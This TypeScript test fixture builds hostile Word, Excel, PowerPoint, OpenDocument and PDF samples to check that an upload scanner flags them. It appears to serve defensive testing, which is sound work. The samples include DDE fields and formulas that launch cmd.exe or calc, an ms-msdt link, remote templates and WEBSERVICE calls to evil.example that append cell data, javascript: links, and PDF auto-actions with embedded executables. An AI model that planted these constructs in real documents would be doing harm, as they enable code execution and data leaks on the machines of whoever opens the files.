import { docxFile, openDocumentFile, pptxFile, relationships, wordDocument, xlsxFile } from '../files/office-file.ts'
import { objectStream, pdfFile, stream } from '../files/pdf-file.ts'
import { allAs, type Hostile } from './hostile-file.ts'

// Documents that ask other programs or machines without a macro, or that say what they do where not every program looks.

const openXml = 'application/vnd.openxmlformats-officedocument'
const openDocument = 'application/vnd.oasis.opendocument'
const template = relationships([['attachedTemplate', 'https://evil.example/t.dotm', true]])
const SETTINGS = 'word/_rels/settings.xml.rels'
const field = (text: string) =>
  docxFile({ 'word/document.xml': wordDocument(`<w:r><w:instrText>${text}</w:instrText></w:r>`) })
const link = (target: string) =>
  docxFile({ 'word/_rels/document.xml.rels': relationships([['hyperlink', target, true]]) })
const sheet = (formula: string) =>
  xlsxFile({
    'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row><c><f>${formula}</f></c></row></sheetData></worksheet>`,
  })
const little = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
const big = (text: string) => little(text).swap16()

const docx: readonly Hostile[] = [
  [
    'has a field that loads a picture',
    field(String.raw`INCLUDEPICTURE "http://evil.example/1.png" \d`),
    'office-external',
  ],
  [
    'has a field that loads a picture, in pieces',
    docxFile({
      'word/document.xml': wordDocument(
        '<w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://evil.example"</w:instrText></w:r>',
      ),
    }),
    'office-external',
  ],
  [
    'has a field that loads a text from a share',
    docxFile({
      'word/document.xml': wordDocument(String.raw`<w:fldSimple w:instr=" INCLUDETEXT \\\\evil\\x "/>`),
    }),
    'office-external',
  ],
  ['has a field that links a table', field(String.raw`LINK Excel.Sheet.8 "\\\\evil\\x.xlsx"`), 'office-external'],
  ['has a link that runs', link('javascript:alert(1)'), 'office-active-content'],
  ['has a link to a tool of Windows', link('ms-msdt:/id PCWDiagnostic'), 'office-active-content'],
  ['loads a template, in UTF-16', docxFile({ [SETTINGS]: little(template) }), 'office-external'],
  ['loads a template, in UTF-16 of the other order', docxFile({ [SETTINGS]: big(template) }), 'office-external'],
  [
    'hides a relation in UTF-16 without a mark',
    docxFile({ [SETTINGS]: Buffer.from(template, 'utf16le') }),
    'markup-encoding',
  ],
  [
    'hides a relation in UTF-7',
    docxFile({
      [SETTINGS]:
        '<?xml version="1.0" encoding="UTF-7"?><Relationships>+ADw-Relationship TargetMode="External"/+AD4-</Relationships>',
    }),
    'markup-encoding',
  ],
  ['loads a template, in capitals', docxFile({ 'word/_rels/settings.XML.RELS': template }), 'office-external'],
  [
    'writes out that a relation leads outside',
    docxFile({ [SETTINGS]: template.replace('External', '&#69;xternal') }),
    'office-external',
  ],
  [
    'asks another program in a part of another name',
    docxFile({
      'word/document2': wordDocument('<w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r>'),
    }),
    'office-active-content',
  ],
  [
    'has a packed file',
    docxFile({ 'word/document.xml': wordDocument('<w:object><o:OLEObject ProgID="Package"/></w:object>') }),
    'office-active-content',
  ],
  [
    'has an object that is elsewhere',
    docxFile({
      'word/document.xml': wordDocument('<w:object><o:OLEObject Type="Link" ProgID="Word.Document.8"/></w:object>'),
    }),
    'office-active-content',
  ],
  [
    'has an object under the name of data',
    docxFile({
      'word/embeddings/payload.dat': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
    }),
    'entry-type-not-accepted',
  ],
  [
    'has a page with a script in it',
    docxFile({ 'word/chunk.html': '<html><script>alert(1)</script></html>' }),
    'markup-active',
  ],
  [
    'has a picture with a script in it',
    docxFile({
      'word/media/image1.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    }),
    'markup-active',
  ],
  [
    'has a link file in it',
    docxFile({ 'word/embeddings/a.lnk': Buffer.from('4c0000000114020000000000c000000000000046', 'hex') }),
    'entry-type-not-accepted',
  ],
  [
    'loads the definition of its data',
    docxFile({ 'customXml/item1.xml': '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>' }),
    'markup-entity',
  ],
]
const xlsx: readonly Hostile[] = [
  [
    'asks a server in a formula',
    sheet('_xlfn.WEBSERVICE(&quot;http://evil.example?&quot;&amp;A1)'),
    'office-active-content',
  ],
  ['asks another program in a formula', sheet(`cmd|'/C calc'!A0`), 'office-active-content'],
  ['asks for data in real time', sheet('RTD(&quot;x&quot;,,&quot;y&quot;)'), 'office-active-content'],
  [
    'loads a picture in a formula',
    sheet('_xlfn.IMAGE(&quot;https://evil.example/1.png&quot;)'),
    'office-active-content',
  ],
  [
    'asks a database when it is opened',
    xlsxFile({ 'xl/connections.xml': '<connections><connection id="1" refreshOnLoad="1"/></connections>' }),
    'office-external',
  ],
  [
    'has a query',
    xlsxFile({
      'customXml/item1.xml': '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>',
    }),
    'office-external',
  ],
  [
    'has a name that runs when it is opened',
    xlsxFile({
      'xl/workbook.xml':
        '<workbook><definedNames><definedName name="_xlnm.Auto_Open">Sheet1!$A$1</definedName></definedNames></workbook>',
    }),
    'office-macro',
  ],
  [
    'has its parts in another form',
    xlsxFile({ 'xl/workbook.bin': Buffer.from([0x83, 1, 0]) }),
    'office-active-content',
  ],
]
const pptx: readonly Hostile[] = [
  [
    'starts a program by a click',
    pptxFile({ 'ppt/slides/slide1.xml': '<p:sld><a:hlinkClick action="ppaction://program"/></p:sld>' }),
    'office-active-content',
  ],
  [
    'runs a macro when it is pointed at',
    pptxFile({ 'ppt/slides/slide1.xml': '<p:sld><a:hlinkMouseOver action="ppaction://macro?name=x"/></p:sld>' }),
    'office-active-content',
  ],
]
const odt: readonly Hostile[] = [
  [
    'has a field that runs a macro',
    openDocumentFile('text', { 'content.xml': '<o:d><text:execute-macro/></o:d>' }),
    'office-macro',
  ],
  [
    'has a key that runs a macro',
    openDocumentFile('text', {
      'Configurations2/accelerator/current.xml': '<accel:item xlink:href="vnd.sun.star.script:x"/>',
    }),
    'office-macro',
  ],
  [
    'has a link that runs',
    openDocumentFile('text', { 'content.xml': '<o:d><text:a xlink:href="java&#115;cript:alert(1)"/></o:d>' }),
    'office-active-content',
  ],
]
const ods: readonly Hostile[] = [
  [
    'asks a server in a formula',
    openDocumentFile('spreadsheet', {
      'content.xml': '<o:d><table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example&quot;)"/></o:d>',
    }),
    'office-active-content',
  ],
]
const pdf: readonly Hostile[] = [
  [
    'acts when a page is looked at',
    pdfFile({ objects: ['<< /Type /Page /AA << /O << /S /URI /URI (http://evil.example) >> >> >>'] }),
    'pdf-action',
  ],
  [
    'acts when it is closed, by reference',
    pdfFile({ catalogue: '/AA 4 0 R', objects: ['<< /WC << >> >>'] }),
    'pdf-action',
  ],
  [
    'acts, under a written-out name, in an object stream',
    pdfFile({ objects: [objectStream(['<< /A#41 << /O 9 0 R >> >>'])] }),
    'pdf-action',
  ],
  [
    'has a file without a type in it',
    pdfFile({ objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', stream('', 'MZ')] }),
    'pdf-embedded-file',
  ],
  ['has a file on a page', pdfFile({ objects: ['<< /Subtype /FileAttachment /FS 5 0 R >>'] }), 'pdf-embedded-file'],
  ['is a collection of files', pdfFile({ catalogue: '/Collection << /View /T >>' }), 'pdf-embedded-file'],
  [
    'has data that are elsewhere',
    pdfFile({ objects: [stream('/F (http://evil.example/x) /FFilter /FlateDecode', '')] }),
    'pdf-action',
  ],
  ['plays a film', pdfFile({ objects: ['<< /Subtype /Movie /Movie << /F (http://evil.example) >> >>'] }), 'pdf-action'],
  ['plays a sound', pdfFile({ objects: ['<< /S /Sound /Sound 9 0 R >>'] }), 'pdf-action'],
  ['has a model in three dimensions', pdfFile({ objects: ['<< /Subtype /3D /3DD 9 0 R >>'] }), 'pdf-action'],
  [
    'has a model that runs a script',
    pdfFile({ objects: [stream('/Type /3D /OnInstantiate 9 0 R', 'x')] }),
    'pdf-script',
  ],
  [
    'has a link that runs',
    pdfFile({ objects: [String.raw`<< /S /URI /URI (javascript:alert\(1\)) >>`] }),
    'pdf-action',
  ],
  ['has a link to a tool of Windows', pdfFile({ objects: ['<< /S /URI /URI ( search-ms:query=x) >>'] }), 'pdf-action'],
  [
    'has a program among the numbers of a font',
    pdfFile({ objects: [String.raw`<< /Type /Font /FontMatrix [1 2 3 4 5 (0\); alert\(1\)//)] >>`] }),
    'pdf-script',
  ],
  [
    'has its encryption in a stream of references',
    pdfFile({ objects: [stream('/Type /XRef /Encrypt 9 0 R /W [1 1 1] /Size 1', '')] }),
    'pdf-encrypted',
  ],
  ['begins behind a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(62), pdfFile()]), 'type-not-accepted'],
  ['begins behind a mark of byte order', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), pdfFile()]), 'type-differs'],
  ['is an image of a disk', Buffer.concat([Buffer.alloc(32_768), Buffer.from('\x01CD001\x01')]), 'type-unknown'],
]

export const actingDocuments = [
  ...allAs('report.docx', `${openXml}.wordprocessingml.document`, docx),
  ...allAs('results.xlsx', `${openXml}.spreadsheetml.sheet`, xlsx),
  ...allAs('slides.pptx', `${openXml}.presentationml.presentation`, pptx),
  ...allAs('report.odt', `${openDocument}.text`, odt),
  ...allAs('results.ods', `${openDocument}.spreadsheet`, ods),
  ...allAs('report.pdf', 'application/pdf', pdf),
]
